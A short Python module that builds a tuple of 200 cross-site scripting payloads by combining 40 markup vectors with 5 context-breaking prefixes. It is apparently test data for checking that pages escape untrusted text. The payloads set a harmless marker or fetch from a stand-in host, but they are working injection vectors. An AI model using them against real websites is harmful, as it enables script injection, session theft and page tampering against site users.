"""Two hundred texts that would run a script, or fetch something, on a page that does not escape them."""

from __future__ import annotations

_MARKUP = (
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script/src=data:,window.hit=1></script>",
    "<script src=//hit.invalid/a.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img/src=x/onerror=window.hit=1//",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<embed src='data:text/html,<script>parent.hit=1</script>'>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<input autofocus onfocus=window.hit=1>",
    "<body onload=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "<link rel=stylesheet href=//hit.invalid/a.css>",
    "<style>@import '//hit.invalid/a.css';</style>",
    "<meta http-equiv=refresh content='0;url=//hit.invalid/'>",
    "<base href=//hit.invalid/>",
    "<form action=//hit.invalid/><button autofocus onfocus=window.hit=1>x</button></form>",
    "<template><script>window.hit=1</script></template><img src=x onerror=window.hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'></noscript>",
    "<xss style=animation-name:x onanimationend=window.hit=1>",
    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>x</a>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\u2028<script>window.hit=1</script>\u2029",
    "<scr\u0000ipt>window.hit=1</scr\u0000ipt><img src=x onerror=window.hit=1>",
    "{{7*7}}<script>window.hit=1</script>",
    "{% raw %}<script>window.hit=1</script>",
    "[x](javascript:window.hit=1)<script>window.hit=1</script>",
    "![x](x onerror=window.hit=1)<img src=x onerror=window.hit=1>",
    "$\\unicode{<script>window.hit=1</script>}$",
    "' onmouseover=window.hit=1 autofocus onfocus=window.hit=1 tabindex=1 x='",
)
_BREAKS = ("", '">', "'>", "</title></style></script>", '" autofocus tabindex=1 onfocus=window.hit=1 x="')

PAYLOADS = tuple(before + markup.replace("\u0000", "") for markup in _MARKUP for before in _BREAKS)
